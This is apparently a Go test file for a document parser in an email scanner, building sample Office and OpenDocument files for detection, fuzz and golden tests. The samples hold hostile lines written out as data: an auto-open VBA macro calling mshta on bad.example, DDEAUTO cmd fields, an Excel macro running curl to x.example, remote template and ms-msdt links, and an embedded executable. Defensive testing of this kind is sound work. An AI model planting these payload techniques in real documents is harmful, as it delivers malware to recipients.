package ooxml

import (
	"bytes"
	"context"
	"encoding/base64"
	"flag"
	"os"
	"slices"
	"strings"
	"testing"

	"foregate/mail"
	"foregate/scan/file/internal/sample"
	"foregate/scan/file/tree"
)

var _ = flag.Bool("update", false, "write the golden files")

const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>`

func w(body string) string {
	return `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body + `</w:body></w:document>`
}

// files are the samples, by the names of their golden files.
func files() map[string][]byte {
	pkg := sample.Compound([]sample.Stream{{Path: "\x01Ole10Native", Data: sample.Native("bill.pdf", `C:\Users\op\invite.exe`, `C:\Temp\invite.exe`, []byte(sample.Marker))}})
	vba := sample.Compound(sample.VBA("", nil, sample.Module{Name: "ThisDocument", Source: "Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run \"mshta http://bad.example/a.hta\"\r\nEnd Sub\r\n"}))
	activeX := sample.Compound([]sample.Stream{{Path: "Contents", Data: make([]byte, 40)}})
	fields := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Loading</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		`<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://track.example/p.png&quot; \d "/></w:p>` +
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 32 99 109 100 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	core := `<cp:coreProperties xmlns:cp="a" xmlns:dc="b" xmlns:dcterms="c"><dc:title>Invitation</dc:title><dc:creator>root</dc:creator><cp:lastModifiedBy>op</cp:lastModifiedBy><cp:revision>2</cp:revision><dcterms:created>2026-10-01T08:00:00Z</dcterms:created></cp:coreProperties>`
	return map[string][]byte{
		"package": sample.Zip(
			sample.File{Name: "[Content_Types].xml", Data: types},
			sample.File{Name: "_rels/.rels", Data: sample.Rels([3]string{"officeDocument", "word/document.xml", ""})},
			sample.File{Name: "word/document.xml", Data: w(`<w:p><w:r><w:color w:val="FF0000"/><w:t>See the </w:t><w:t>invitation</w:t></w:r></w:p><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>`)},
			sample.File{Name: "word/_rels/document.xml.rels", Data: sample.Rels([3]string{"oleObject", "embeddings/oleObject1.bin", ""}, [3]string{"hyperlink", "https://go.example/x?a=1&amp;b=2", "External"})},
			sample.File{Name: "word/embeddings/oleObject1.bin", Data: string(pkg)},
			sample.File{Name: "word/embeddings/sheet.xlsx", Data: string(sample.Zip(sample.File{Name: "[Content_Types].xml", Data: types}, sample.File{Name: "xl/workbook.xml", Data: "<workbook/>"}))},
			sample.File{Name: "word/media/image1.png", Data: "\x89PNG\r\n\x1a\n not really"},
			sample.File{Name: "docProps/core.xml", Data: core},
		),
		"macro": sample.Zip(
			sample.File{Name: "[Content_Types].xml", Data: types},
			sample.File{Name: "word/document.xml", Data: w(fields)},
			sample.File{Name: "word/_rels/document.xml.rels", Data: sample.Rels([3]string{"vbaProject", "stuff.bin", ""}, [3]string{"aFChunk", "part.mht", ""}, [3]string{"control", "activeX/activeX1.xml", ""})},
			sample.File{Name: "word/stuff.bin", Data: string(vba)},
			sample.File{Name: "word/part.mht", Data: "MIME-Version: 1.0\r\n\r\n<html>"},
			sample.File{Name: "word/activeX/activeX1.xml", Data: `<ax:ocx xmlns:ax="x" ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>`},
			sample.File{Name: "word/activeX/activeX1.bin", Data: string(activeX)},
		),
		"remote": sample.Zip(
			sample.File{Name: "[Content_Types].xml", Data: types},
			sample.File{Name: "word/document.xml", Data: w(`<w:p/>`)},
			sample.File{Name: "word/_rels/settings.xml.rels", Data: sample.Rels([3]string{"attachedTemplate", "http://tpl.example/t.dotm", "External"}, [3]string{"attachedTemplate", "file:///C:/Users/me/Normal.dotm", "External"})},
			sample.File{Name: "word/_rels/document.xml.rels", Data: string(utf16(sample.Rels([3]string{"oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", "External"}, [3]string{"frame", `\\files.example\share\f.docx`, "External"}, [3]string{"hyperlink", "ms-msdt:/id PCWDiagnostic", "External"})))},
		),
		"excel": sample.Zip(
			sample.File{Name: "[Content_Types].xml", Data: types},
			sample.File{Name: "xl/workbook.xml", Data: `<workbook><sheets><sheet name="A"/><sheet name="B" state="hidden"/><sheet name="C" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">C!$A$1</definedName></definedNames></workbook>`},
			sample.File{Name: "xl/macrosheets/sheet1.xml", Data: `<xm:macrosheet xmlns:xm="x"><row><c><f>EXEC("cmd /c curl http://x.example/a")</f></c></row></xm:macrosheet>`},
			sample.File{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`},
			sample.File{Name: "xl/sharedStrings.xml", Data: `<sst><si><t>Enable content</t></si><si><t>to see</t></si></sst>`},
			sample.File{Name: "xl/tool.scr", Data: sample.Marker},
		),
		"slides": sample.Zip(
			sample.File{Name: "[Content_Types].xml", Data: types},
			sample.File{Name: "ppt/slides/slide1.xml", Data: `<p:sld xmlns:a="x"><a:p><a:t>Sign in to read</a:t></a:p></p:sld>`},
			sample.File{Name: "ppt/slides/_rels/slide1.xml.rels", Data: sample.Rels([3]string{"hyperlink", "https://login.example/", "External"}, [3]string{"oleObject", "../embeddings/eicar.com", ""})},
			sample.File{Name: "ppt/embeddings/eicar.com", Data: string(sample.EICAR())},
		),
		"opendocument": sample.Zip(
			sample.File{Name: "mimetype", Data: "application/vnd.oasis.opendocument.text"},
			sample.File{Name: "content.xml", Data: `<office:text><text:p>Hello <text:a xlink:href="https://odt.example/">link</text:a></text:p></office:text>`},
			sample.File{Name: "Basic/Standard/Module1.xml", Data: `<script:module>Sub AutoOpen
Shell("cmd.exe /c calc")
End Sub</script:module>`},
			sample.File{Name: "Object 1", Data: sample.Marker},
		),
	}
}

func utf16(s string) []byte { return append([]byte("\xff\xfe"), sample.UTF16(s)...) }

func TestGolden(t *testing.T) {
	for name, data := range files() {
		t.Run(name, func(t *testing.T) {
			sample.Golden(t, Parser{}, name, sample.Input(name+".docx", data))
		})
	}
}

func TestTorture(t *testing.T) {
	for name, data := range files() {
		sample.Torture(t, Parser{}, name+".docx", data)
	}
}

// The payload of the exercise's second wave is found by name.
func TestCallisto(t *testing.T) {
	raw, err := os.ReadFile("../../../cmd/foregate/testdata/samples/callisto-b-invitation.eml")
	if err != nil {
		t.Fatal(err)
	}
	m := mail.Parse(mail.Envelope{}, raw)
	if len(m.Attachments) != 1 {
		t.Fatalf("%d attachments", len(m.Attachments))
	}
	a := m.Attachments[0]
	in := sample.Input(a.FileName, a.Raw)
	if !(Parser{}).Opens(in) {
		t.Fatal("not opened")
	}
	res, err := Parser{}.Open(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	want := tree.Finding{ID: "file.embedded-program", Claim: `document "Invitation.docx" carries an embedded program "programme.exe" as an OLE Package`, Quote: "programme.exe"}
	if !slices.Contains(res.Findings, want) {
		t.Errorf("findings %+v", res.Findings)
	}
	if len(res.Children) != 1 || res.Children[0].Name != "programme.exe" || len(res.Children[0].Data) == 0 {
		t.Errorf("children %+v", res.Children)
	}
}

// A part that expands like a bomb ends the look, with what was found before.
func TestBomb(t *testing.T) {
	data := sample.Zip(
		sample.File{Name: "[Content_Types].xml", Data: types},
		sample.File{Name: "word/document.xml", Data: w(`<w:r><w:t>hello</w:t></w:r>`)},
		sample.File{Name: "word/footnotes.xml", Data: strings.Repeat("a", 15<<20)},
	)
	res, err := Parser{}.Open(context.Background(), sample.Input("b.docx", data))
	if err == nil || !strings.Contains(err.Error(), "expands") || !strings.Contains(res.Text, "hello") {
		t.Errorf("%v, text %q", err, res.Text)
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := (Parser{}).Open(ctx, sample.Input("a.docx", files()["package"])); err == nil {
		t.Error("went on without time")
	}
}

func FuzzOpen(f *testing.F) {
	for _, data := range files() {
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := sample.Input("f.docx", data)
		if !(Parser{}).Opens(in) {
			return
		}
		res, _ := Parser{}.Open(t.Context(), in)
		sample.Check(t, res)
	})
}

func FuzzPart(f *testing.F) {
	f.Add(w(`<w:fldSimple w:instr="DDE a b"/>`))
	f.Add(sample.Rels([3]string{"oleObject", "http://a.example", "External"}))
	f.Add(base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("<a>"), 100)))
	f.Fuzz(func(t *testing.T, part string) {
		for _, name := range []string{"word/document.xml", "word/_rels/document.xml.rels", "xl/workbook.xml", "xl/macrosheets/a.xml", "docProps/core.xml", "word/activeX/a.xml", "Basic/a.xml"} {
			data := sample.Zip(sample.File{Name: "[Content_Types].xml", Data: types}, sample.File{Name: "word/x.xml", Data: ""}, sample.File{Name: name, Data: part})
			res, _ := Parser{}.Open(t.Context(), sample.Input("f", data))
			sample.Check(t, res)
		}
	})
}

func BenchmarkOpen(b *testing.B) {
	data := files()["package"]
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := (Parser{}).Open(b.Context(), sample.Input("a.docx", data)); err != nil {
			b.Fatal(err)
		}
	}
}
